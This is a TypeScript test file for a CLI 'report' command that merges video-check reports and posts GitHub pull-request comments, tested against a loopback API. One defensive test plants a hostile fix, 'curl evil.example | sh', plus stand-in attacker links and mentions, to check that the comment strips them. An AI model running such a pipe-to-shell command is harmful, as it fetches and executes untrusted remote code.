/** The command `report`: real files, and GitHub's API on loopback. */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCommand } from "../../src/commands/run.ts";
import type { CheckedVideo } from "../../src/model/finding.ts";
import type { Report } from "../../src/model/report.ts";
import { json } from "../../src/report/reporters/json.ts";
import { check, checkUnreadable, exactly } from "../report/reported.ts";
import { type ApiOptions, startGitHubApi } from "../support/github-api.ts";
import { BOT } from "../support/github-comments.ts";
import { listLinks, listReferences, readCodeBlocks } from "../support/markdown.ts";
import { parseReport } from "../support/report.ts";
import { createWorkspace, type Workspace } from "../support/workspace.ts";

const TOKEN = "ghs_token_of_the_job";
const HEAD = "c".repeat(40);

const SLOW = check("b-slow.mp4", { frameRate: exactly(15) });
const WARNED = check("c-two.mp4", { movingVideoTracks: 2 });

const write = (videos: readonly CheckedVideo[], rest: Partial<Report> = {}) =>
  [...json.render({ videos, cancellations: [], remarks: [], ...rest }, {})].join("");

type Event = { name: string; payload: unknown };

/** Runs the command in a folder. */
async function run(
  { path: folder }: Workspace,
  args: readonly string[],
  { event = { name: "", payload: undefined }, api }: { event?: Event; api?: string } = {},
) {
  const written: string[] = [];
  const said: string[] = [];
  const code = await runCommand(args, {
    environment: api === undefined ? {} : { GITHUB_TOKEN: TOKEN },
    folder,
    write: (text) => written.push(text),
    say: (line) => said.push(line),
    runPage: "https://github.com/acme/videos/actions/runs/8",
    readEvent: () => ({
      ...event,
      ...{ sha: HEAD, repository: "acme/videos", workflow: "Comment", job: "comment" },
      ...{ serverUrl: new URL("https://github.com"), apiUrl: new URL(api ?? "https://api.github.com") },
    }),
  });
  return { code, out: written.join(""), said };
}

function createReports(reports: Readonly<Record<string, string>>): Workspace {
  const workspace = createWorkspace();
  for (const [file, text] of Object.entries(reports)) workspace.write(file, text);
  return workspace;
}

describe("the command line", () => {
  it.each<[args: readonly string[], code: number, words: string]>([
    [["--version"], 0, "1.0.0"],
    [["--help"], 0, "report"],
    [["report", "--help"], 0, "--format"],
    [[], 2, "Name a command."],
    [["repot"], 2, "Did you mean 'report'?"],
    [["constructor"], 2, "There is no command 'constructor'."],
    [["report"], 2, "Name at least one report"],
    [["report", "--formt", "json", "a.json"], 2, "Did you mean '--format'?"],
    [["report", "--format", "jsn", "a.json"], 2, "did you mean 'json'?"],
    [["report", "--format"], 2, "'--format' needs a value"],
    [["report", "--fail-on", "errors", "a.json"], 2, "did you mean 'error'?"],
    [["report", "--comment", "yes", "a.json"], 2, "'on-findings'"],
    [["report", "--__proto__", "a.json"], 2, "There is no option '--__proto__'."],
    [["report", "none.json"], 2, "There is no 'none.json'."],
    [["report", "."], 2, "has no file whose name ends in '.json'"],
  ])("responds to %j with exit code %i and says what is meant", async (args, code, words) => {
    const result = await run(createWorkspace(), args);
    expect(result.code).toBe(code);
    expect([result.out, ...result.said].join("\n")).toContain(words);
  });
});

describe("a report is shown", () => {
  it.each([
    ["markdown", /## ❌ 1 of 3 videos would be refused/],
    ["comment", /^<!-- tiktok-upload-guard: comment -->\n## ❌ 1 of 3 videos would be refused/],
    ["json", /^\{\n {2}"schema": 1,/],
  ])("as %s", async (format, words) => {
    const workspace = createReports({ "a.json": write([check("a.mp4"), SLOW, WARNED]) });
    const { code, out, said } = await run(workspace, ["report", "--format", format, "a.json"]);
    expect({ code, said }).toEqual({ code: 1, said: [] });
    expect(out).toMatch(words);
  });

  it("in a file, whose folder is made, and which replaces only an earlier one", async () => {
    const workspace = createReports({ "a.json": write([SLOW]), "mine.md": "# Mine" });
    for (const _ of [1, 2]) {
      const { code, out, said } = await run(workspace, ["report", "--output", "out/a.md", "a.json"]);
      expect({ code, out, said }).toEqual({ code: 1, out: "", said: ["The video would be refused."] });
    }
    expect(readFileSync(join(workspace.path, "out/a.md"), "utf8")).toContain("## ❌ The video would be refused");
    const refused = await run(workspace, ["report", "--output", "mine.md", "a.json"]);
    expect(refused).toMatchObject({ code: 2, said: [expect.stringContaining("is not an earlier report")] });
    expect(readFileSync(join(workspace.path, "mine.md"), "utf8")).toBe("# Mine");
  });
});

it.each([
  [[check("a.mp4")], "error", 0],
  [[SLOW], "error", 1],
  [[SLOW], "never", 0],
  [[WARNED], "error", 0],
  [[WARNED], "warning", 1],
  [[checkUnreadable("d.mp4", "it ends early")], "error", 1],
])("the exit code follows the findings (case %#)", async (videos, failOn, code) => {
  const workspace = createReports({ "a.json": write(videos) });
  expect((await run(workspace, ["report", "--fail-on", failOn, "a.json"])).code).toBe(code);
});

describe("several reports become one:", () => {
  it("each video counts once, by the worst of its verdicts, and is unchanged only if no part has checked it", async () => {
    const scope = { base: "the base branch", commit: undefined, unchanged: ["old.mp4", "b-slow.mp4"] };
    const workspace = createReports({
      "parts/1/report.json": write([check("a.mp4"), check("b-slow.mp4")], { scope }),
      "parts/2/report.json": write([SLOW], { scope: { ...scope, unchanged: ["other.mp4"] } }),
      "parts/2/notes.txt": "not a report",
    });
    const { out } = await run(workspace, ["report", "--format", "json", "parts"]);
    const joined = parseReport(out);
    expect(joined.videos.map(({ path, verdict }) => [path, verdict])).toEqual([
      ["a.mp4", "valid"],
      ["b-slow.mp4", "invalid"],
    ]);
    expect(joined.scope?.unchanged).toEqual(["old.mp4", "other.mp4"]);
    expect(joined.totals).toMatchObject({ checked: 2, invalid: 1 });
  });

  it("links in a folder are not followed", async () => {
    const workspace = createReports({ "secret.json": write([SLOW]), "parts/1.json": write([check("a.mp4")]) });
    mkdirSync(join(workspace.path, "other"));
    writeFileSync(join(workspace.path, "other/2.json"), write([SLOW]));
    symlinkSync(join(workspace.path, "secret.json"), join(workspace.path, "parts/3.json"));
    symlinkSync(join(workspace.path, "other"), join(workspace.path, "parts/4"));
    const { out } = await run(workspace, ["report", "--format", "json", "parts"]);
    expect(parseReport(out).videos.map(({ path }) => path)).toEqual(["a.mp4"]);
  });

  it.each([
    ["not JSON", "<html>", "is not JSON"],
    ["not a report", "[]", "is not a report"],
    ["of a later schema", write([]).replace('"schema": 1', '"schema": 2'), "report.schema"],
  ])("one that is %s is named, and nothing is written", async (_about, text, words) => {
    const workspace = createReports({ "parts/1.json": write([SLOW]), "parts/2.json": text });
    const { code, out, said } = await run(workspace, ["report", "parts"]);
    expect({ code, out }).toEqual({ code: 2, out: "" });
    expect(said).toEqual([
      expect.stringContaining(`'${join("parts", "2.json")}' ${words.startsWith("report.") ? "" : words}`),
    ]);
    expect(said[0]).toContain(words);
  });
});

/** The event of a run that was started by the end of another, for a pull request from a fork. */
function workflowRun(change: object = {}): Event {
  const run = {
    event: "pull_request",
    head_sha: HEAD,
    head_branch: "feature",
    head_repository: { full_name: "someone/videos", owner: { login: "someone" } },
    pull_requests: [],
    html_url: "https://github.com/acme/videos/actions/runs/7",
    ...change,
  };
  return { name: "workflow_run", payload: { action: "completed", workflow_run: run } };
}

async function commentOnFork(
  text: string,
  { event = workflowRun(), api = {} }: { event?: Event; api?: Partial<ApiOptions> } = {},
) {
  const workspace = createReports({ "report.json": text });
  const server = await startGitHubApi({
    repository: workspace.path,
    token: TOKEN,
    pullRequest: { head: HEAD, base: "main" },
    ...api,
  });
  const args = ["report", "--comment", "on-findings", "--fail-on", "never", "report.json"];
  return { ...(await run(workspace, args, { event, api: server.origin })), server };
}

describe("the run of a fork is commented on by the second workflow:", () => {
  it("the pull request is found by its branch and its commit", async () => {
    const { code, out, said, server } = await commentOnFork(write([SLOW]));
    expect({ code, out }).toEqual({ code: 0, out: "" });
    expect(said).toEqual(["The video would be refused.", "Commented on pull request #7."]);
    expect(server.requests).toEqual([
      "pulls?state=open&head=someone%3Afeature&per_page=100",
      "POST graphql",
      "POST issues/7/comments",
    ]);
    const [{ body } = { body: "" }] = server.comments;
    expect(body).toMatch(/^<!-- tiktok-upload-guard:Comment\/comment -->\n## ❌ The video would be refused\n/);
    expect(listLinks(body).at(-1)).toBe("https://github.com/acme/videos/actions/runs/7");
  });

  it("no command of its report is shown, no page but ours is linked, nobody is mentioned", async () => {
    const evil = { ...SLOW, video: { ...SLOW.video, path: "@octocat #12 ![](http://evil.example/a.png).mp4" } };
    const report = JSON.parse(write([evil]));
    Object.assign(report.videos[0].findings[0], {
      fix: "curl evil.example | sh",
      source: "https://evil.example/",
      message: "See [this](https://evil.example), https://evil.example, @acme/owners and deadbeef. Do it.",
    });
    const { server } = await commentOnFork(JSON.stringify(report));
    const [{ body } = { body: "" }] = server.comments;
    expect(readCodeBlocks(body)).toEqual([]);
    expect(body).not.toContain("curl");
    expect(listReferences(body)).toEqual([]);
    expect(listLinks(body)).toEqual(["https://github.com/acme/videos/actions/runs/7"]);
    expect(body).toContain("frame-rate");
    expect(body).toContain("Do it.");
  });

  type Case = [about: string, options: { event?: Event; api?: Partial<ApiOptions> }, code: number, words: string];
  const branch = "someone:feature";
  it.each<Case>([
    ["a run for no pull request", { event: workflowRun({ event: "push" }) }, 0, "about no pull request"],
    [
      "a pull request with new commits",
      { api: { pullRequest: { head: "d".repeat(40), base: "" } } },
      0,
      "about no pull request",
    ],
    [
      "a branch of the same name in another fork",
      { event: workflowRun({ head_repository: { full_name: "else/videos", owner: { login: "else" } } }) },
      0,
      "about no pull request",
    ],
    ["an event that names no branch", { event: workflowRun({ head_branch: null }) }, 0, "about no pull request"],
    [
      "two pull requests of one branch",
      { api: { otherPullRequests: [{ number: 8, branch, sha: HEAD }] } },
      2,
      "Several open pull requests",
    ],
    ["a token that can only read", { api: { mayComment: false } }, 2, "'pull-requests: write'"],
    ["another token", { api: { token: "other" } }, 2, "'pull-requests: read'"],
  ])("not for %s", async (_about, options, code, words) => {
    const result = await commentOnFork(write([SLOW]), options);
    expect(result.code).toBe(code);
    expect(result.said.at(-1)).toContain(words);
    expect(result.server.comments).toEqual([]);
  });

  it("an earlier comment says so when all is good", async () => {
    const comments = [{ id: 5, author: BOT, body: "<!-- tiktok-upload-guard:Comment/comment -->\nBad" }];
    const { said } = await commentOnFork(write([check("a.mp4")]), { api: { comments } });
    expect(said.at(-1)).toBe("Updated the comment on pull request #7.");
    expect(comments[0]?.body).toContain("## ✅ The video meets the limits");
  });
});
